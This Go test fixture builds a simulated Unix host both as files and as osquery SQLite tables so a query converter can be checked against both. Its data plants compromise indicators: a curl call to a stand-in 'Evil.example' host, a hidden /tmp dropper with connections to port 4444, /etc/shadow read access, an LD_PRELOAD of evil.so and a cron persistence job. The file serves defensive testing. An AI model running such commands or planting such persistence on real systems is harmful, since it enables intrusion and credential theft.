//go:build unix

package osquery_test

import (
	"context"
	"crypto/sha256"
	"database/sql"
	"encoding/hex"
	"fmt"
	"io/fs"
	"net/netip"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"syscall"
	"testing"
	"time"

	_ "modernc.org/sqlite"

	"github.com/quaestor-engine/quaestor"
	"github.com/quaestor-engine/quaestor/modules"
	"github.com/quaestor-engine/quaestor/modules/std"
	"github.com/quaestor-engine/quaestor/value"
)

// The world is one prepared host in two forms: a tree with pretended rows,
// which Quaestor is asked about, and tables in SQLite as osquery fills them
// from the same facts. The second is written here from osquery's own
// description of its tables, and knows nothing of the converter's.
type world struct {
	root    string
	now     time.Time
	session quaestor.Session
	db      *sql.DB
	files   []osqueryFile
}

type procFact struct {
	pid, parent         int64
	name, path, cmdline string
	cwd, root           string
	state               byte
	uid, gid, euid      int64
	started             time.Time
	memory, threads     int64
}

type sockFact struct {
	pid, fd, inode                int64 // pid -1: nobody's
	family, protocol, state, path string
	local, remote                 string // addr:port or empty
}

type fileFact struct {
	pid, fd int64
	path    string
}

type envFact struct {
	pid        int64
	key, value string
}

type packFact struct {
	name, version, arch, manager, status, source string
	size                                         int64
}

func facts(now time.Time) (procs []procFact, socks []sockFact, opens []fileFact, envs []envFact, packs []packFact) {
	ago := func(d time.Duration) time.Time { return now.Add(-d) }
	procs = []procFact{
		{1, 0, "systemd", "/usr/lib/systemd/systemd", "/sbin/init", "/", "/", 'S', 0, 0, 0, ago(90 * 24 * time.Hour), 12 << 20, 1},
		{2, 0, "kthreadd", "", "", "/", "/", 'S', 0, 0, 0, ago(90 * 24 * time.Hour), 0, 1},
		{400, 1, "sshd", "/usr/sbin/sshd", "sshd: /usr/sbin/sshd -D", "/", "/", 'S', 0, 0, 0, ago(30 * 24 * time.Hour), 8 << 20, 1},
		{410, 400, "sshd", "/usr/sbin/sshd", "sshd: alice [priv]", "/", "/", 'S', 0, 0, 0, ago(2 * time.Hour), 9 << 20, 1},
		{411, 410, "bash", "/usr/bin/bash", "-bash", "/home/alice", "/", 'S', 1000, 1000, 1000, ago(2 * time.Hour), 5 << 20, 1},
		{420, 411, "CURL", "/usr/bin/curl", "curl -s HTTP://Evil.example/x", "/tmp", "/", 'R', 1000, 1000, 1000, ago(5 * time.Second), 3 << 20, 2},
		{500, 1, "dropper", "/tmp/.x/dropper", "./dropper --quiet", "/tmp", "/", 'S', 0, 0, 0, ago(26 * time.Hour), 99 << 20, 4},
		{510, 500, "sh", "/usr/bin/bash", "sh -c id", "", "/", 'Z', 33, 33, 33, ago(time.Hour), 0, 1},
		{600, 1, "nginx", "/usr/sbin/nginx", "nginx: master", "/", "/", 'S', 0, 0, 33, ago(10 * 24 * time.Hour), 40 << 20, 1},
		{601, 600, "nginx", "/usr/sbin/nginx", "nginx: worker 100%", "/", "/", 'S', 33, 33, 33, ago(10 * 24 * time.Hour), 50 << 20, 8},
		{700, 9999, "orphan", "/opt/app_1/bin/run", "run a_b", "/opt", "/", 'D', 4242, 4242, 4242, ago(400 * 24 * time.Hour), 1 << 20, 1},
	}
	socks = []sockFact{
		{400, 3, 1001, "ipv4", "tcp", "listen", "", "0.0.0.0:22", ""},
		{400, 4, 1002, "ipv6", "tcp", "listen", "", "[::]:22", ""},
		{410, 5, 1003, "ipv4", "tcp", "established", "", "10.0.0.5:22", "10.0.0.9:50000"},
		{420, 3, 1004, "ipv4", "tcp", "established", "", "10.0.0.5:41000", "203.0.113.7:80"},
		{500, 6, 1005, "ipv4", "tcp", "established", "", "10.0.0.5:41001", "198.51.100.1:4444"},
		{510, 0, 1006, "ipv4", "tcp", "established", "", "10.0.0.5:41002", "198.51.100.1:4445"},
		{600, 6, 1007, "ipv4", "tcp", "listen", "", "0.0.0.0:443", ""},
		{600, 7, 1008, "ipv4", "tcp", "listen", "", "127.0.0.1:8080", ""},
		{601, 6, 1007, "ipv4", "tcp", "listen", "", "0.0.0.0:443", ""},
		{500, 7, 1009, "ipv4", "udp", "unconnected", "", "0.0.0.0:5353", ""},
		{1, 20, 1010, "unix", "unix", "listen", "/run/systemd/private", "", ""},
		{1, 21, 1011, "unix", "unix", "unconnected", "", "", ""},
		{-1, -1, 1012, "ipv4", "tcp", "time_wait", "", "10.0.0.5:40000", "192.168.7.7:443"},
	}
	opens = []fileFact{{411, 0, "/dev/pts/0"}, {500, 3, "/tmp/.x/loot.TAR"}, {500, 4, "/etc/shadow"}, {600, 2, "/var/log/nginx/error.log"}, {601, 2, "/var/log/nginx/error.log"}, {411, 255, "/home/alice/.bash_history"}}
	envs = []envFact{{500, "LD_PRELOAD", "/tmp/.x/evil.so"}, {411, "HOME", "/home/alice"}, {411, "PATH", "/usr/bin"}, {600, "PATH", ""}, {420, "http_proxy", "http://10.0.0.1:3128"}}
	packs = []packFact{
		{"openssl", "3.0.11-1~deb12u2", "amd64", "dpkg", "installed", "openssl", 2 << 20},
		{"bash", "5.2.15-2+b2", "amd64", "dpkg", "installed", "bash", 7 << 20},
		{"curl", "7.88.1-10", "amd64", "dpkg", "config-files", "curl", 500 << 10},
		{"requests", "2.28.1", "", "python", "installed", "", 0},
		{"zlib1g", "1:1.2.13-1", "amd64", "dpkg", "installed", "zlib", 150 << 10},
	}
	return
}

// tree is what lies on the host.
var tree = map[string]string{
	"etc/passwd":                "root:x:0:0:root:/root:/bin/bash\nwww-data:x:33:33:www:/var/www:/usr/sbin/nologin\nalice:x:1000:1000::/home/alice:/bin/bash\nBob:x:1001:100::/home/Bob:\n",
	"etc/group":                 "root:x:0:\nwww-data:x:33:\nalice:x:1000:\nusers:x:100:alice\nsudo:x:27:alice,Bob\n",
	"etc/crontab":               "*/5 * * * * root /usr/bin/true\n@reboot root /opt/start\n0 3 1 * 1 alice /home/alice/bin/x --all\n",
	"etc/hosts":                 "127.0.0.1 localhost\n",
	"etc/Foo.CONF":              "a\n",
	"etc/.hidden":               "h\n",
	"etc/cron.d/job":            "0 1 * * * root /tmp/.x/dropper\n",
	"usr/lib/systemd/systemd":   "ELF systemd",
	"usr/sbin/sshd":             "ELF sshd",
	"usr/sbin/nginx":            "ELF nginx",
	"usr/bin/bash":              "ELF bash",
	"usr/bin/curl":              "ELF curl",
	"tmp/a.sh":                  "#!/bin/sh\n",
	"tmp/.x/evil.so":            "ELF evil",
	"tmp/.dot":                  "d",
	"tmp/dir/b.txt":             "bbb",
	"tmp/dir/.c":                "cc",
	"tmp/dir/deep/d.sh":         "deep",
	"tmp/dir/deep/_e":           "e",
	"home/alice/.ssh/id_rsa":    "key",
	"home/alice/.bash_history":  "ls\n",
	"home/alice/notes.txt":      strings.Repeat("n", 5000),
	"home/Bob/.ssh/known_hosts": "",
	"home/Bob/x y.txt":          "blank",
}

func newWorld(t testing.TB) *world {
	t.Helper()
	w := &world{root: t.TempDir(), now: time.Date(2026, 11, 23, 12, 0, 0, 0, time.UTC)}
	age := 0
	for _, name := range sortedNames(tree) {
		p := filepath.Join(w.root, name)
		if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(p, []byte(tree[name]), 0o644); err != nil {
			t.Fatal(err)
		}
		age += 11
		at := w.now.Add(-time.Duration(age)*time.Hour - 300*time.Millisecond)
		if err := os.Chtimes(p, at, at); err != nil {
			t.Fatal(err)
		}
	}
	for name, mode := range map[string]os.FileMode{"tmp/a.sh": 0o755, "usr/bin/bash": 0o755 | os.ModeSetuid, "home/alice/.ssh/id_rsa": 0o600} {
		if err := os.Chmod(filepath.Join(w.root, name), mode); err != nil {
			t.Fatal(err)
		}
	}
	if err := os.Symlink("a.sh", filepath.Join(w.root, "tmp/link.sh")); err != nil {
		t.Fatal(err)
	}
	w.openSession(t)
	w.openDB(t)
	return w
}

func sortedNames(m map[string]string) []string {
	var names []string
	for n := range m {
		names = append(names, n)
	}
	slices.Sort(names)
	return names
}

// A pretended module has the schema of the real one, and rows of the world.
type pretended struct {
	modules.Module
	rows []map[string]value.Value
}

func (m pretended) Scan(ctx context.Context, req *modules.Request, yield func(modules.Row) error) error {
	s := m.Schema()
	for _, r := range m.rows {
		if req.Keys != nil && !slices.ContainsFunc(req.Keys, func(k value.Value) bool { return k.String() == r[s.Key].String() }) {
			continue
		}
		if err := yield(pretendedRow{s, r}); err != nil {
			return err
		}
	}
	req.Report.Looked("rows", int64(len(m.rows)))
	return nil
}

type pretendedRow struct {
	schema *modules.Schema
	values map[string]value.Value
}

func (r pretendedRow) Column(_ context.Context, i int) (value.Value, error) {
	return r.values[r.schema.Columns[i].Name], nil
}

func textOrNull(s string) value.Value {
	if s == "" {
		return value.Value{}
	}
	return value.NewText(s)
}

func (w *world) openSession(t testing.TB) {
	rows := map[string][]map[string]value.Value{}
	add := func(module string, r map[string]value.Value) { rows[module] = append(rows[module], r) }
	procs, socks, opens, envs, packs := facts(w.now)
	states := map[byte]string{'S': "sleeping", 'R': "running", 'Z': "zombie", 'D': "disk_sleep"}
	users := map[int64]string{0: "root", 33: "www-data", 1000: "alice", 1001: "Bob"}
	for _, p := range procs {
		r := map[string]value.Value{"pid": value.NewInt(p.pid), "parent": value.NewInt(p.parent), "name": value.NewText(p.name),
			"path": textOrNull(p.path), "exe": textOrNull(p.path), "cmdline": textOrNull(p.cmdline), "cwd": textOrNull(p.cwd), "root": textOrNull(p.root),
			"state": value.NewText(states[p.state]), "uid": value.NewInt(p.uid), "gid": value.NewInt(p.gid), "euid": value.NewInt(p.euid), "user": textOrNull(users[p.uid]),
			"started": value.NewTime(p.started), "memory": value.NewSize(p.memory), "threads": value.NewInt(p.threads)}
		add("process", r)
	}
	for _, s := range socks {
		r := map[string]value.Value{"family": value.NewText(s.family), "protocol": value.NewText(s.protocol), "state": value.NewText(s.state), "path": textOrNull(s.path), "inode": value.NewInt(s.inode)}
		if s.pid > 0 {
			r["process"], r["fd"] = value.NewInt(s.pid), value.NewInt(s.fd)
		}
		if a, err := netip.ParseAddrPort(s.local); err == nil {
			r["address"], r["port"] = value.NewIP(a.Addr()), value.NewInt(int64(a.Port()))
		}
		if a, err := netip.ParseAddrPort(s.remote); err == nil {
			r["remote_address"], r["remote_port"] = value.NewIP(a.Addr()), value.NewInt(int64(a.Port()))
		}
		add("socket", r)
	}
	for _, o := range opens {
		add("open_file", map[string]value.Value{"process": value.NewInt(o.pid), "fd": value.NewInt(o.fd), "path": textOrNull(o.path), "type": value.NewText("file")})
	}
	add("open_file", map[string]value.Value{"process": value.NewInt(400), "fd": value.NewInt(3), "type": value.NewText("socket"), "inode": value.NewInt(1001)})
	for _, e := range envs {
		add("environment", map[string]value.Value{"process": value.NewInt(e.pid), "name": value.NewText(e.key), "value": textOrNull(e.value)})
	}
	for _, p := range packs {
		add("package", map[string]value.Value{"id": value.NewText(p.manager + ":" + p.name), "name": value.NewText(p.name), "version": value.NewVersion(p.version, value.Dpkg), "architecture": textOrNull(p.arch),
			"manager": value.NewText(p.manager), "status": value.NewText(p.status), "source": textOrNull(p.source), "size": value.NewSize(p.size)})
	}
	var mods []modules.Module
	for _, m := range std.Modules() {
		if r, ok := rows[m.Schema().Name]; ok {
			m = pretended{m, r}
		}
		mods = append(mods, m)
	}
	s, err := quaestor.LocalWith(quaestor.Options{Modules: mods, Root: w.root, Now: func() time.Time { return w.now }})
	if err != nil {
		t.Fatal(err)
	}
	w.session = s
	t.Cleanup(func() { s.Close() })
}

// An osqueryFile is a file as osquery's table has it: what a link leads to,
// under the name of the link.
type osqueryFile struct {
	path string
	info fs.FileInfo
	link bool
}

func (w *world) openDB(t testing.TB) {
	db, err := sql.Open("sqlite", ":memory:")
	if err != nil {
		t.Fatal(err)
	}
	db.SetMaxOpenConns(1)
	t.Cleanup(func() { db.Close() })
	w.db = db
	exec := func(q string, args ...any) {
		if _, err := db.Exec(q, args...); err != nil {
			t.Fatal(q, err)
		}
	}
	for _, q := range []string{
		`CREATE TABLE processes (pid BIGINT, name TEXT, path TEXT, cmdline TEXT, state TEXT, cwd TEXT, root TEXT, uid BIGINT, gid BIGINT, euid BIGINT, on_disk INTEGER, resident_size BIGINT, start_time BIGINT, parent BIGINT, threads INTEGER)`,
		`CREATE TABLE users (uid BIGINT, gid BIGINT, username TEXT, description TEXT, directory TEXT, shell TEXT)`,
		`CREATE TABLE groups (gid BIGINT, groupname TEXT)`,
		`CREATE TABLE user_groups (uid BIGINT, gid BIGINT)`,
		`CREATE TABLE process_open_sockets (pid INTEGER, fd BIGINT, socket BIGINT, family INTEGER, protocol INTEGER, local_address TEXT, remote_address TEXT, local_port INTEGER, remote_port INTEGER, path TEXT, state TEXT)`,
		`CREATE TABLE listening_ports (pid INTEGER, port INTEGER, protocol INTEGER, family INTEGER, address TEXT, fd BIGINT, socket BIGINT, path TEXT)`,
		`CREATE TABLE process_open_files (pid BIGINT, fd BIGINT, path TEXT)`,
		`CREATE TABLE process_envs (pid INTEGER, key TEXT, value TEXT)`,
		`CREATE TABLE file (path TEXT, directory TEXT, filename TEXT, inode BIGINT, uid BIGINT, gid BIGINT, mode TEXT, size BIGINT, mtime BIGINT, hard_links INTEGER, type TEXT)`,
		`CREATE TABLE hash (path TEXT, directory TEXT, sha256 TEXT)`,
		`CREATE TABLE deb_packages (name TEXT, version TEXT, source TEXT, size BIGINT, arch TEXT, status TEXT)`,
		`CREATE TABLE crontab (event TEXT, minute TEXT, hour TEXT, day_of_month TEXT, month TEXT, day_of_week TEXT, command TEXT, path TEXT)`,
		`CREATE TABLE time (unix_time INTEGER)`,
	} {
		exec(q)
	}
	exec(`INSERT INTO time VALUES (?)`, w.now.Unix())
	procs, socks, opens, envs, packs := facts(w.now)
	for _, p := range procs {
		onDisk := -1
		if p.path != "" {
			onDisk = 0
			if _, err := os.Stat(filepath.Join(w.root, p.path)); err == nil {
				onDisk = 1
			}
		}
		exec(`INSERT INTO processes VALUES (?,?,?,?,?,?,?,?,?,?,?,?,?,?,?)`, p.pid, p.name, p.path, p.cmdline, string(p.state), p.cwd, p.root, p.uid, p.gid, p.euid, onDisk, p.memory, p.started.Unix(), p.parent, p.threads)
	}
	fillSockets(exec, socks)
	for _, o := range opens {
		exec(`INSERT INTO process_open_files VALUES (?,?,?)`, o.pid, o.fd, o.path)
	}
	for _, e := range envs {
		exec(`INSERT INTO process_envs VALUES (?,?,?)`, e.pid, e.key, e.value)
	}
	for _, p := range packs {
		if p.manager == "dpkg" {
			status := map[string]string{"installed": "install ok installed", "config-files": "deinstall ok config-files"}[p.status]
			exec(`INSERT INTO deb_packages VALUES (?,?,?,?,?,?)`, p.name, p.version, p.source, p.size>>10, p.arch, status)
		}
	}
	w.accounts(exec)
	w.crontabs(exec)
	w.listFiles(t)
}

func fillSockets(exec func(string, ...any), socks []sockFact) {
	families, protocols := map[string]int{"ipv4": 2, "ipv6": 10, "unix": 1}, map[string]int{"tcp": 6, "udp": 17, "unix": 0}
	states := map[string]string{"listen": "LISTEN", "established": "ESTABLISHED", "time_wait": "TIME_WAIT"}
	for _, s := range socks {
		la, lp, ra, rp := "", 0, "", 0
		if a, err := netip.ParseAddrPort(s.local); err == nil {
			la, lp = a.Addr().String(), int(a.Port())
			ra = map[string]string{"ipv4": "0.0.0.0", "ipv6": "::"}[s.family]
		}
		if a, err := netip.ParseAddrPort(s.remote); err == nil {
			ra, rp = a.Addr().String(), int(a.Port())
		}
		exec(`INSERT INTO process_open_sockets VALUES (?,?,?,?,?,?,?,?,?,?,?)`, s.pid, s.fd, s.inode, families[s.family], protocols[s.protocol], la, ra, lp, rp, s.path, states[s.state])
		if s.family == "unix" && s.path == "" || s.family != "unix" && rp != 0 {
			continue
		}
		exec(`INSERT INTO listening_ports VALUES (?,?,?,?,?,?,?,?)`, s.pid, lp, protocols[s.protocol], families[s.family], la, s.fd, s.inode, s.path)
	}
}

// accounts fills the tables of users and groups from the files of the tree.
func (w *world) accounts(exec func(string, ...any)) {
	own := map[string]string{}
	uids := map[string]string{}
	for line := range strings.Lines(tree["etc/passwd"]) {
		f := strings.Split(strings.TrimSpace(line), ":")
		exec(`INSERT INTO users VALUES (?,?,?,?,?,?)`, f[2], f[3], f[0], f[4], f[5], f[6])
		exec(`INSERT INTO user_groups VALUES (?,?)`, f[2], f[3])
		own[f[0]], uids[f[0]] = f[3], f[2]
	}
	for line := range strings.Lines(tree["etc/group"]) {
		f := strings.Split(strings.TrimSpace(line), ":")
		exec(`INSERT INTO groups VALUES (?,?)`, f[2], f[0])
		for m := range strings.SplitSeq(f[3], ",") {
			if m != "" && own[m] != f[2] {
				exec(`INSERT INTO user_groups VALUES (?,?)`, uids[m], f[2])
			}
		}
	}
}

// crontabs fills the table of jobs. In osquery the user of a crontab of the
// system is the first word of the command; the mark between them is the one
// that rows are compared with.
func (w *world) crontabs(exec func(string, ...any)) {
	for _, name := range []string{"etc/crontab", "etc/cron.d/job"} {
		for line := range strings.Lines(tree[name]) {
			f := strings.Fields(line)
			if strings.HasPrefix(f[0], "@") {
				exec(`INSERT INTO crontab VALUES (?,'','','','','',?,?)`, f[0][1:], f[1]+" | "+strings.Join(f[2:], " "), "/"+name)
				continue
			}
			exec(`INSERT INTO crontab VALUES ('',?,?,?,?,?,?,?)`, f[0], f[1], f[2], f[3], f[4], f[5]+" | "+strings.Join(f[6:], " "), "/"+name)
		}
	}
}

// listFiles finds all files as osquery sees them.
func (w *world) listFiles(t testing.TB) {
	err := filepath.WalkDir(w.root, func(name string, d fs.DirEntry, err error) error {
		if err != nil || name == w.root {
			return err
		}
		info, err := os.Stat(name)
		if err != nil {
			return err
		}
		w.files = append(w.files, osqueryFile{strings.TrimPrefix(name, w.root), info, d.Type()&fs.ModeSymlink != 0})
		return nil
	})
	if err != nil {
		t.Fatal(err)
	}
}

// fillFiles puts into the tables of files what osquery generates for a query:
// the paths that it names, and those that its patterns find as osquery's globs
// do. With nil it is all of them.
func (w *world) fillFiles(t testing.TB, only func(path string) bool) {
	for _, q := range []string{`DELETE FROM file`, `DELETE FROM hash`} {
		if _, err := w.db.Exec(q); err != nil {
			t.Fatal(err)
		}
	}
	for _, f := range w.files {
		if only != nil && !only(f.path) {
			continue
		}
		st := f.info.Sys().(*syscall.Stat_t)
		mode := fmt.Sprintf("%04o", st.Mode&0o7777)
		kind := "regular"
		if f.info.IsDir() {
			kind = "directory"
		}
		if _, err := w.db.Exec(`INSERT INTO file VALUES (?,?,?,?,?,?,?,?,?,?,?)`, f.path, filepath.Dir(f.path), filepath.Base(f.path), int64(st.Ino), st.Uid, st.Gid, mode, f.info.Size(), f.info.ModTime().Unix(), int64(st.Nlink), kind); err != nil {
			t.Fatal(err)
		}
		if kind != "regular" {
			continue
		}
		b, err := os.ReadFile(filepath.Join(w.root, f.path))
		if err != nil {
			t.Fatal(err)
		}
		sum := sha256.Sum256(b)
		if _, err := w.db.Exec(`INSERT INTO hash VALUES (?,?,?)`, f.path, filepath.Dir(f.path), hex.EncodeToString(sum[:])); err != nil {
			t.Fatal(err)
		}
	}
}
